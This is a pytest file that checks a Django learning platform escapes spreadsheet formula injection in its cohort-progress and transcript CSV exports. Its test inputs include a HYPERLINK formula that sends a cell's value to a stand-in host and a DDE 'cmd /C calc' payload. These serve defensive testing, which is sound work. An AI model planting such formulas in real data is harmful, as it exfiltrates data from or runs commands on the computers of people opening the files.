"""Every CSV the platform writes is neutralised against formula injection (config/csv_export.py):
a cell starting with =, +, -, @, a tab or a carriage return reaches the spreadsheet as text."""

import csv
import io

import pytest
from django.urls import reverse

from config.csv_export import FORMULA_STARTS, neutralise
from tests.factories_cohorts import add_learner, make_cohort, make_programme
from tests.factories import make_user
from tests.factories_lms import make_course

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://x?d="&C2;"Voir")'


def _rows(response) -> list[list[str]]:
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline=""), delimiter=";"))


def _cells(rows) -> list[str]:
    return [cell for row in rows for cell in row]


def test_the_helper_prefixes_every_formula_start_and_leaves_the_rest():
    for start in FORMULA_STARTS:
        assert neutralise(f"{start}1+1") == f"'{start}1+1"
    assert neutralise("Hôpital =1") == "Hôpital =1"
    assert neutralise(-3) == -3 and neutralise(None) == ""


def test_the_cohort_progress_export_neutralises_names_and_organisations(client):
    cohort = make_cohort(programme=make_programme(modules=1))
    add_learner(cohort, first_name=HYPERLINK, last_name="Martin", organisation="CHU")
    for start in FORMULA_STARTS:
        add_learner(cohort, organisation=f"{start}cmd|' /C calc'!A0")
    client.force_login(cohort.memberships.get(role="facilitator").user)
    rows = _rows(client.get(reverse("cohorts:progress_export", args=[cohort.pk])))
    cells = _cells(rows)
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)], cells
    assert any(cell.startswith("'" + HYPERLINK) for cell in cells)
    for start in FORMULA_STARTS:
        assert f"'{start}cmd|' /C calc'!A0" in cells
    assert len(rows) == 1 + 1 + len(FORMULA_STARTS)


def test_the_transcript_export_neutralises_titles_written_by_editors(client):
    from tests.lms.test_certificates_and_data import finish

    course = make_course(title=HYPERLINK)
    learner = make_user()
    finish(course, learner)
    client.force_login(learner)
    cells = _cells(_rows(client.get(reverse("lms:transcript_csv"))))
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)], cells
    assert "'" + HYPERLINK in cells
